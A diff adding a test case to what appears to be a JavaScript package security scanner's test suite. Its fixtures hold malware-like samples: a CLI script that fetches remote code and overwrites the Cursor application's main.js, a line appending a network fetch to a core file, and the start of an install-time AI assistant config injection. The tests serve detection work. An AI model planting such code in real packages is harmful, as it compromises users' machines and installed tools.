@@ -252,6 +252,15 @@ if (fs.existsSync(core)) fs.appendFileSync(core, "\\nrequire('https').get('https
     expect(['high', 'critical']).toContain(r.level);
   });
 
+  it("an installed application's own code overwritten by a command the user runs is a write into another application (sw-cur)", () => {
+    const r = scan({
+      'bin/cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nconst MAIN = '/Applications/Cursor.app/Contents/Resources/app/out/main.js';\nasync function main() {\n  const js = await fetch('https://api.example.dev/v1/runtime').then((r) => r.arrayBuffer());\n  fs.writeFileSync(MAIN, Buffer.from(js));\n}\nmain();\n`,
+    }, { bin: { fast: 'bin/cli.js' } });
+    expect(r.findings.find((f) => f.detector === 'persistence')?.data?.what).toMatch(/another application/);
+    const own = scan({ 'bin/cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfs.writeFileSync(require('path').join(process.cwd(), 'dist', 'main.js'), 'x');\n` }, { bin: { fast: 'bin/cli.js' } });
+    expect(own.ids).not.toContain('persistence/write');
+  });
+
   it('an MCP server added to AI assistant configs in a loop, at install, is at least medium', () => {
     const r = scan({
       'index.js': `const fs = require('fs');
